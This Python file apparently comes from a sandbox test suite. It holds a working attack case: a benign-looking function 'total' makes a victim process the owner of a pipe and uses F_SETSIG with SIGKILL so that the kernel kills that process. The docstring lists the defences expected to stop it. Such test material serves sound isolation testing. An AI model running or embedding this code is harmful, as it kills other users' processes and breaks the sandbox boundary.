"""Makes another process the owner of a pipe, to which the kernel then sends a signal.

must hold: no process, thread or file is left; the next submission finds nothing changed
stopped by: filter, namespaces, Landlock, comparison
control: off, the victim is hurt
"""

import fcntl
import json
import os
import signal
from pathlib import Path

TARGET = json.loads(Path("target.json").read_text())


def total(x):
    out, into = os.pipe()
    fcntl.fcntl(out, 10, signal.SIGKILL)
    fcntl.fcntl(out, fcntl.F_SETOWN, TARGET["victim"])
    fcntl.fcntl(out, fcntl.F_SETFL, os.O_ASYNC)
    os.write(into, b"hello")
    return x
